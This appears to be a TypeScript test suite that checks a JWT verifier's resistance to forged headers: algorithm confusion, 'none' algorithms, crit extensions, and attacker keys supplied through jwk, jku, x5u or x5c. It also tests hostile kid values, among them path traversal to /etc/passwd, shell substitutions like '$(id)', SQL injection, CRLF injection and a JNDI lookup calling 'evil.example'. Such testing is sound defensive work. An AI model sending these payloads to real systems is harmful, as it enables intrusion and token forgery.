/** What an attacker writes into a token's header: another algorithm, an extension, a key, a name of a key. */

import { createHash, createPublicKey, generateKeyPairSync, sign, X509Certificate, type KeyObject } from "node:crypto";
import { describe, expect, test } from "vitest";
import { exportJwk } from "../../src/protocol/jwk.js";
import { claims, createSigningKey, mint, secondKey, signingKey, stranger } from "../support/agents.js";
import { selfSign } from "../support/certificate.js";
import { bearer } from "../support/request-table.js";
import { listen, send, sendJson } from "../support/servers.js";
import { base64url, ecdsa, eddsa, forge, hmac, pss, rsa, type Signer } from "./forged-token.js";
import { PUBLIC_SECRETS } from "./public-secrets.js";
import { startTarget, verdictOf, verifierOf, type Verdict } from "./target.js";

const header = (members: string) => `{"alg":"RS256","kid":"key-1",${members}}`;
const spare = secondKey.jwk;

describe("another algorithm", () => {
  test.each(Object.entries(PUBLIC_SECRETS))("HMAC with the public key as its secret: %s", async (_, secret) => {
    for (const bits of [256, 384, 512]) {
      const signer = hmac(`sha${bits}`, secret);
      expect(await verdictOf(forge({ alg: `HS${bits}`, kid: "key-1" }, claims(), signer))).toBe(
        "algorithm_not_allowed",
      );
      expect(await verdictOf(forge({ alg: "RS256", kid: "key-1" }, claims(), signer))).toBe("signature_invalid");
    }
  });

  test("HMAC with a secret, or an elliptic key, that the key set itself publishes", async () => {
    const elliptic = generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey;
    const ofElliptic = verifierOf([{ ...exportJwk(elliptic), kid: "key-1", use: "sig" }, spare]);
    for (const secret of [
      elliptic.export({ format: "der", type: "spki" }),
      elliptic.export({ format: "pem", type: "spki" }),
    ]) {
      const token = (alg: string) => forge({ alg, kid: "key-1" }, claims(), hmac("sha256", secret));
      expect(await verdictOf(token("HS256"), ofElliptic)).toBe("algorithm_not_allowed");
      expect(await verdictOf(token("RS256"), ofElliptic)).toBe("key_untrusted");
    }
    const secret = Buffer.alloc(32, 7);
    const oct = { kty: "oct", k: secret.toString("base64url"), kid: "key-1" };
    for (const jwk of [oct, { ...oct, alg: "HS256", use: "sig" }, { ...oct, alg: "RS256" }]) {
      const verifier = verifierOf([jwk, spare]);
      const honest = forge({ alg: "HS256", kid: "key-1" }, claims(), hmac("sha256", secret));
      expect(await verdictOf(honest, verifier)).toBe("algorithm_not_allowed");
      const lying = forge({ alg: "RS256", kid: "key-1" }, claims(), hmac("sha256", secret));
      expect(await verdictOf(lying, verifier)).toBe("key_untrusted");
    }
  });

  const NONE = ["none", "None", "NONE", "nOnE", " none", "none ", "none\0", "\0none", "", "null", "undefined", "RS256"];
  test.each(NONE)("no signature: alg %j", async (alg) => {
    const unsigned = forge({ alg, kid: "key-1" }, claims(), () => Buffer.alloc(0));
    expect(await verdictOf(unsigned)).toBe("token_malformed");
    expect(await verdictOf(unsigned.slice(0, -1))).toBe("token_malformed");
    if (alg === "RS256") return;
    expect(await verdictOf(`${unsigned}AA`)).toBe("algorithm_not_allowed");
    expect(await verdictOf(forge({ alg, kid: "key-1" }, claims()))).toBe("algorithm_not_allowed");
  });

  const ec = (namedCurve: string) => generateKeyPairSync("ec", { namedCurve });
  const pair = { p256: ec("P-256"), p384: ec("P-384"), p521: ec("P-521"), k256: ec("secp256k1") };
  const edwards = { ed25519: generateKeyPairSync("ed25519"), ed448: generateKeyPairSync("ed448") };
  const jwkOf = (key: KeyObject) => ({ ...exportJwk(key), kid: "key-1", use: "sig" });
  const rsaJwk = jwkOf(createPublicKey(signingKey.privateKey));
  /** Tokens whose signature is right, with a key that the backend publishes for them. */
  const HONEST: [alg: string, jwk: object, signer: Signer, ifItSaysRs256: Verdict][] = [
    ["RS384", rsaJwk, rsa("sha384"), "signature_invalid"],
    ["RS512", rsaJwk, rsa("sha512"), "signature_invalid"],
    ["RS1", rsaJwk, rsa("sha1"), "signature_invalid"],
    ["PS256", rsaJwk, pss("sha256", 32), "signature_invalid"],
    ["PS384", rsaJwk, pss("sha384", 48), "signature_invalid"],
    ["PS512", rsaJwk, pss("sha512", 64), "signature_invalid"],
    ["PS256", rsaJwk, pss("sha256", 0), "signature_invalid"],
    ["RS384", { ...rsaJwk, alg: "RS384" }, rsa("sha384"), "key_untrusted"],
    ["PS256", { ...rsaJwk, alg: "PS256" }, pss("sha256", 32), "key_untrusted"],
    ["ES256", jwkOf(pair.p256.publicKey), ecdsa("sha256", pair.p256.privateKey), "key_untrusted"],
    ["ES384", jwkOf(pair.p384.publicKey), ecdsa("sha384", pair.p384.privateKey), "key_untrusted"],
    ["ES512", jwkOf(pair.p521.publicKey), ecdsa("sha512", pair.p521.privateKey), "key_untrusted"],
    ["ES256K", jwkOf(pair.k256.publicKey), ecdsa("sha256", pair.k256.privateKey), "key_untrusted"],
    ["EdDSA", jwkOf(edwards.ed25519.publicKey), eddsa(edwards.ed25519.privateKey), "key_untrusted"],
    ["Ed25519", jwkOf(edwards.ed25519.publicKey), eddsa(edwards.ed25519.privateKey), "key_untrusted"],
    ["EdDSA", jwkOf(edwards.ed448.publicKey), eddsa(edwards.ed448.privateKey), "key_untrusted"],
  ];
  test.each(HONEST)("%s, with a key for it in the set", async (alg, jwk, signer, ifItSaysRs256) => {
    const verifier = verifierOf([jwk, spare]);
    expect(await verdictOf(forge({ alg, kid: "key-1" }, claims(), signer), verifier)).toBe("algorithm_not_allowed");
    expect(await verdictOf(forge({ alg: "RS256", kid: "key-1" }, claims(), signer), verifier)).toBe(ifItSaysRs256);
    // Nor does the algorithm of that key become one of another key.
    const crossed = forge({ alg, kid: "key-2" }, claims(), rsa("sha256", secondKey.privateKey));
    expect(await verdictOf(crossed, verifier)).toBe("algorithm_not_allowed");
    expect(await verdictOf(mint({}, secondKey), verifier)).toBe("accepted");
  });

  test.each([
    ...[
      '"rs256"',
      '"Rs256"',
      '" RS256"',
      '"RS256 "',
      '"RS256\\u0000"',
      '"RS\\u200b256"',
      '"R\u0405256"',
      '"RS256,HS256"',
    ],
    ...['"\uff32\uff33\uff12\uff15\uff16"', '"RSASSA-PKCS1-v1_5"', '"RSA-SHA256"', '["RS256"]', '["RS256","none"]'],
    ...['{"RS256":true}', '{"toString":"RS256","valueOf":"RS256"}', "256", "null", "true", '"constructor"'],
  ])("RS256 in other words, signed with the right key: %s", async (alg) => {
    expect(await verdictOf(forge(`{"alg":${alg},"kid":"key-1"}`, claims()))).toBe("algorithm_not_allowed");
  });

  test("no alg, one under another name, an inherited one; escapes that JSON undoes are the same words", async () => {
    for (const members of ['"x":1', '"__proto__":{"alg":"RS256"}', '"Alg":"RS256","ALG":"RS256"']) {
      expect(await verdictOf(forge(`{${members},"kid":"key-1"}`, claims()))).toBe("algorithm_not_allowed");
    }
    expect(await verdictOf(forge('{"\\u0061lg":"\\u0052S256","kid":"key-1"}', claims()))).toBe("accepted");
  });
});

describe("crit: no extension is understood here (RFC 7515 §4.1.11)", () => {
  test.each([
    ...['["exp"],"exp":4000000000', '["b64"],"b64":true', '["b64"],"b64":false', '["b64"]', '["alg"]', '["kid","alg"]'],
    ...[
      '["cnf"],"cnf":{"jkt":"x"}',
      '["http://evil.example/x"],"http://evil.example/x":true',
      '["x"]',
      '["x","x"],"x":1',
    ],
    ...[
      '[""],"":1',
      "[]",
      "[null]",
      "[1]",
      '["__proto__"],"__proto__":{}',
      '"exp"',
      '""',
      "{}",
      '{"length":0}',
      "null",
    ],
    ...["false", "0", 'null,"\\u0063rit":["x"]'],
  ])("%s", async (crit) => {
    expect(await verdictOf(forge(header(`"crit":${crit}`), claims()))).toBe("token_malformed");
  });

  test("a claim of that name says nothing of the header", async () => {
    const token = forge({ alg: "RS256", kid: "key-1" }, { ...claims(), crit: ["x"], b64: false });
    expect(await verdictOf(token)).toBe("accepted");
  });
});

test("a payload that is not encoded (RFC 7797)", async () => {
  const json = JSON.stringify(claims());
  for (const members of ['"b64":false,"crit":["b64"]', '"b64":false', '"x":1']) {
    const protectedHeader = base64url(header(members));
    const signature = sign("sha256", Buffer.from(`${protectedHeader}.${json}`), signingKey.privateKey).toString(
      "base64url",
    );
    expect(await verdictOf(`${protectedHeader}..${signature}`)).toBe("token_malformed");
    expect(await verdictOf(`${protectedHeader}.${json}.${signature}`)).toBe("token_malformed");
    // Signed as it stands, sent encoded: the signature is of other bytes.
    const encoded = `${protectedHeader}.${base64url(json)}.${signature}`;
    expect(await verdictOf(encoded)).toBe(members === '"x":1' ? "signature_invalid" : "token_malformed");
    // Signed and sent encoded, though the header denies it.
    expect(await verdictOf(forge(header(members), json))).toBe(members === '"x":1' ? "accepted" : "token_malformed");
  }
});

test.each([
  ...['"b64":true', '"b64":null', '"b64":0', '"b64":"false"', '"b64":[]', '"Crit":["x"]', '"critical":["x"]'],
  ...['"__proto__":{"crit":["x"]}', '"__proto__":{"alg":"none"}', '"constructor":{"prototype":{"alg":"none"}}'],
  ...['"typ":"at+jwt"', '"typ":["JWT"]', '"cty":"JWT"', '"zip":"DEF"', '"enc":"A256GCM"', '"epk":{"kty":"EC"}'],
  ...['"p2c":2147483647,"p2s":"AAAA"', '"nonce":"x","url":"x"', '"exp":1,"iss":"x","aud":"x"'],
  ...['"toJSON":"x","then":"x"', '"__proto__":{"alg":"none"},"__proto__":null'],
])("members that are never read: %s", async (members) => {
  expect(await verdictOf(forge(header(members), claims()))).toBe("accepted");
});

const attacker = stranger;

describe("a key, or the place of one, in the header or in the claims", () => {
  const certificate = selfSign(attacker.privateKey, "chatgpt.com");
  const x5c = [certificate.toString("base64")];
  const thumbprint = (hash: string) => createHash(hash).update(certificate).digest("base64url");

  test("the certificate is a real one, of the attacker's key", () => {
    const parsed = new X509Certificate(certificate);
    expect(parsed.verify(parsed.publicKey)).toBe(true);
    expect(exportJwk(parsed.publicKey)).toMatchObject({ n: attacker.jwk["n"] });
  });

  /** The attacker's server: it has the attacker's key in every form, under every path. */
  async function startAttackersServer() {
    const requests: string[] = [];
    const { url } = await listen((req, res) => {
      requests.push(req.url ?? "");
      if (req.url?.startsWith("/x5u")) res.end(new X509Certificate(certificate).toString());
      else sendJson(res, { keys: [attacker.jwk, { ...attacker.jwk, kid: "key-1" }], jwks_uri: `${url}/jwks` });
    });
    return {
      url,
      /** What was asked before this question, which comes last. */
      async requests(): Promise<string[]> {
        await send(`${url}/last`);
        return requests.splice(0).slice(0, -1);
      },
    };
  }

  test("is neither trusted nor followed, and does no harm to a token that the backend has signed", async () => {
    const server = await startAttackersServer();
    const { url } = server;
    const target = await startTarget();
    const { verifier } = target.agents;
    const all = { jwk: attacker.jwk, jku: `${url}/jwks`, x5u: `${url}/x5u`, x5c };
    for (const members of [
      { jwk: attacker.jwk },
      { jwk: { ...attacker.jwk, kid: undefined } },
      { jwk: { ...attacker.jwk, kid: "key-1" } },
      { jwk: exportJwk(attacker.privateKey) },
      { jwk: JSON.stringify(attacker.jwk) },
      { jwk: { keys: [attacker.jwk] } },
      { jwks: { keys: [attacker.jwk] }, keys: [attacker.jwk] },
      ...["/jwks", "/backend-api/keys", "/#chatgpt.com"].map((path) => ({ jku: url + path })),
      { jku: url.replace("//", "//chatgpt.com@") },
      { jku: [`${url}/jwks`] },
      { jwks_uri: `${url}/jwks`, url: `${url}/jwks` },
      { x5u: `${url}/x5u` },
      { x5c },
      { x5c: x5c[0] },
      { x5t: thumbprint("sha1"), "x5t#S256": thumbprint("sha256") },
      { iss: url, aud: url },
      all,
    ]) {
      const theirs = rsa("sha256", attacker.privateKey);
      for (const [kid, code] of [
        ["key-1", "signature_invalid"],
        [attacker.kid, "key_untrusted"],
        [undefined, "token_malformed"],
      ] as const) {
        expect(await verdictOf(forge({ alg: "RS256", kid, ...members }, claims(), theirs), verifier)).toBe(code);
      }
      const inClaims = forge({ alg: "RS256", kid: "key-1" }, { ...members, ...claims(), cnf: members }, theirs);
      expect(await verdictOf(inClaims, verifier)).toBe("signature_invalid");
      expect(await verdictOf(forge({ alg: "RS256", kid: "key-1", ...members }, claims()), verifier)).toBe("accepted");
    }
    expect(await target.verdict(bearer(forge({ alg: "RS256", kid: "key-1", ...all }, claims())))).toBe("accepted");
    expect(await verdictOf(mint({}, { ...attacker, kid: `${url}/jwks` }), verifier)).toBe("key_untrusted");
    expect(await verdictOf(mint({ iss: url }, attacker), verifier)).toBe("issuer_invalid");
    expect(await server.requests()).toEqual([]);
  });

  test("a secret in jwk is no key", async () => {
    const secret = Buffer.alloc(32, 7);
    const jwk = { kty: "oct", k: secret.toString("base64url"), alg: "HS256" };
    const signer = hmac("sha256", secret);
    expect(await verdictOf(forge({ alg: "HS256", kid: "key-1", jwk }, claims(), signer))).toBe("algorithm_not_allowed");
    expect(await verdictOf(forge({ alg: "RS256", kid: "key-1", jwk }, claims(), signer))).toBe("signature_invalid");
  });

  test("a backend that redirects to the attacker's key set is not followed", async () => {
    const target = await startTarget();
    const server = await startAttackersServer();
    expect(await target.verdict(bearer(mint()))).toBe("accepted");
    target.backend.answer = (_req, res) => res.writeHead(302, { Location: `${server.url}/jwks` }).end();
    // A refresh: the answer is a redirect, so the keys stay as they were.
    await expect(target.agents.verifier.verify(mint({}, attacker))).rejects.toMatchObject({ code: "keys_unavailable" });
    expect(target.backend.fetches).toBe(2);
    expect(await target.verdict(bearer(mint({}, { ...attacker, kid: "key-1" })))).toBe("signature_invalid");
    expect(await target.verdict(bearer(mint()))).toBe("accepted");
    expect(await server.requests()).toEqual([]);
  });
});

describe("a kid", () => {
  const NAMES =
    "__proto__ constructor prototype toString valueOf hasOwnProperty size get 0 null undefined * key-* ^key-1$";
  const PATHS = "../../../../etc/passwd ..\\..\\windows\\win.ini /dev/null /proc/self/environ file:///etc/passwd";
  const unknown = [
    ...`${NAMES} ${PATHS} http://127.0.0.1:1/jwks $(id) \`id\` {{7*7}} <script>alert(1)</script> KEY-1`.split(" "),
    ...["[object Object]", "' OR '1'='1", "key-1'; DROP TABLE keys; --", "key-1 UNION SELECT 'secret'", "| id"],
    ...["${jndi:ldap://evil.example/a}", " key-1", "key-1 ", "key-1\0", "key-1\0.pem", "\0", "key-1\n", "\ud800"],
    ...["key-1\r\nSet-Cookie: a=b", "\u001b[31mkey-1", "key-1\u200b", "\ufeffkey-1", "key\u20101", "\uff4bey-1"],
    ...["k\u0435y-1", "\u202ekey-1", "key-1\udfff", "key-1,key-2", "key-1/../key-1", "%6bey-1", "key-1#", "key-1?"],
    ...["k".repeat(256), "\u{1f511}".repeat(128)],
  ];
  test("that names no key, from an endpoint and from a fixed set", async () => {
    const target = await startTarget();
    for (const kid of unknown) {
      const token = mint({}, { ...signingKey, kid });
      expect(await verdictOf(token), kid).toBe("key_untrusted");
      expect(await target.verdict(bearer(token)), kid).toBe("key_untrusted");
    }
    expect(await target.verdict(bearer(mint()))).toBe("accepted");
  });

  test.each([
    ...[
      "",
      '"kid":""',
      '"kid":null',
      '"kid":true',
      '"kid":0',
      '"kid":1e400',
      '"kid":["key-1"]',
      '"kid":{"kid":"key-1"}',
    ],
    ...['"kid":{"toString":"key-1","length":5}', '"__proto__":{"kid":"key-1"}', '"Kid":"key-1","KID":"key-1"'],
    ...[`"kid":"${"k".repeat(257)}"`, `"kid":"${"\u{1f511}".repeat(128)}k"`, `"kid":"${"k".repeat(8000)}"`],
  ])("that is none: %.60s", async (member) => {
    expect(await verdictOf(forge(`{"alg":"RS256","x":1${member && `,${member}`}}`, claims()))).toBe("token_malformed");
  });

  test("of a set of odd names finds its key, and no other name does", async () => {
    const names = ["__proto__", "constructor", "cl\u00e9", "a/b", "k".repeat(256), "0"];
    const verifier = verifierOf(names.map((kid) => ({ ...signingKey.jwk, kid })));
    for (const kid of names) expect(await verdictOf(mint({}, { ...signingKey, kid }), verifier)).toBe("accepted");
    for (const kid of ["toString", "cle\u0301", "CL\u00c9", "a%2fb", "k".repeat(255), "00", "key-1"]) {
      expect(await verdictOf(mint({}, { ...signingKey, kid }), verifier), kid).toBe("key_untrusted");
    }
  });

  test("reaches no entry without a usable name", async () => {
    const nameless = { ...signingKey.jwk, kid: undefined };
    const verifier = verifierOf([nameless, { ...nameless, kid: null }, { ...nameless, kid: ["key-1"] }, spare]);
    for (const kid of ["key-1", "undefined", "null", "key-2"]) {
      const code = kid === "key-2" ? "signature_invalid" : "key_untrusted";
      expect(await verdictOf(mint({}, { ...signingKey, kid }), verifier)).toBe(code);
    }
  });

  test("of another key of the set verifies nothing, before or after that key's own token", async () => {
    const verifier = verifierOf([signingKey.jwk, secondKey.jwk]);
    const crossed = [mint({}, { ...signingKey, kid: "key-2" }), mint({}, { ...secondKey, kid: "key-1" })];
    for (let i = 0; i < 2; i++) {
      for (const token of crossed) expect(await verdictOf(token, verifier)).toBe("signature_invalid");
      for (const key of [signingKey, secondKey]) expect(await verdictOf(mint({}, key), verifier)).toBe("accepted");
    }
  });

  test("that two keys have is the first one's, also where that is not usable", async () => {
    const second = { ...secondKey, kid: "key-1", jwk: { ...secondKey.jwk, kid: "key-1" } };
    const verifier = verifierOf([signingKey.jwk, second.jwk]);
    expect(await verdictOf(mint({}, second), verifier)).toBe("signature_invalid");
    expect(await verdictOf(mint(), verifier)).toBe("accepted");
    const unusable = verifierOf([{ ...signingKey.jwk, use: "enc" }, second.jwk, spare]);
    expect(await verdictOf(mint({}, second), unusable)).toBe("key_untrusted");
    expect(await verdictOf(mint(), unusable)).toBe("key_untrusted");
  });

  const weak = createSigningKey("key-1", 1024);
  test.each<[string, object]>([
    ["of 1024 bits", weak.jwk],
    ["with an exponent of 1", { ...signingKey.jwk, e: "AQ" }],
    ["with an exponent of 0", { ...signingKey.jwk, e: "AA" }],
    ["with an even exponent", { ...signingKey.jwk, e: "BA" }],
    ["for encryption", { ...signingKey.jwk, use: "enc" }],
    ["for another algorithm", { ...signingKey.jwk, alg: "RSA-OAEP" }],
    ["that may only encrypt", { ...signingKey.jwk, key_ops: ["encrypt"] }],
  ])("of a key %s is not trusted", async (_, jwk) => {
    const token = mint({}, jwk === weak.jwk ? weak : signingKey);
    expect(await verdictOf(token, verifierOf([jwk, spare]))).toBe("key_untrusted");
  });
});
